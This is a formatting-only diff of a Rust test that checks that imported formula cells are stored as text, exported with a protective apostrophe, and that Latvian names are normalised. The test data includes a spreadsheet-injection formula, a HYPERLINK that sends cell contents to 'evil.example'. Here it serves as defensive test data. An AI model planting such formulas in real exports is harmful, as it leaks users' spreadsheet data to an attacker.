@@ -499,7 +499,10 @@ async fn formula_cells_are_imported_as_text_and_written_escaped_and_names_are_nf
     let (dace, first, _) = row("dace@example.lv");
     assert_eq!(first, evil);
     let (_, first, last) = row("janis@example.lv");
-    assert_eq!((first.as_str(), last.as_str()), ("J\u{101}nis", "\u{10C}akste"));
+    assert_eq!(
+        (first.as_str(), last.as_str()),
+        ("J\u{101}nis", "\u{10C}akste")
+    );
     drop(db);
 
     // The search finds the name typed either way.
@@ -519,7 +522,9 @@ async fn formula_cells_are_imported_as_text_and_written_escaped_and_names_are_nf
     let export: app::types::DataExport = serde_json::from_str(&r.body).unwrap();
     let lines: Vec<&str> = export.csv.split("\r\n").collect();
     assert!(
-        lines.contains(&"fields,,first_name,\"'=HYPERLINK(\"\"http://evil.example/?q=\"\"&A1,\"\"Open\"\")\""),
+        lines.contains(
+            &"fields,,first_name,\"'=HYPERLINK(\"\"http://evil.example/?q=\"\"&A1,\"\"Open\"\")\""
+        ),
         "{}",
         export.csv
     );
